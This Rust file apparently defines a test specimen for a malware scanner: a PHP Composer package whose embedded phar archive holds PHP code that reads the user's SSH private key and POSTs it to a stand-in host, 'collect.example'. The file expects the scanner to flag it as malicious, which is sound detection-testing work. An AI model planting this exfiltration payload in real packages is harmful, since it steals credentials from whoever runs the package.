//! A PHP package with a packed archive that sends an SSH key when PHP runs it.
//!
//! Must be found: packed archives are run.

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen, build};

const MAIN: &str = r"<?php
$secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
$options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
@file_get_contents('http://collect.example/phar', false, stream_context_create($options));
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/toolbox", "3.1.0")
        .bytes("tools/box.phar", build::phar("main.php", MAIN));
    package
        .specimen("composer-phar", Expect::malicious(&["canary-exfiltrated"]))
        .telling("when it is used")
}
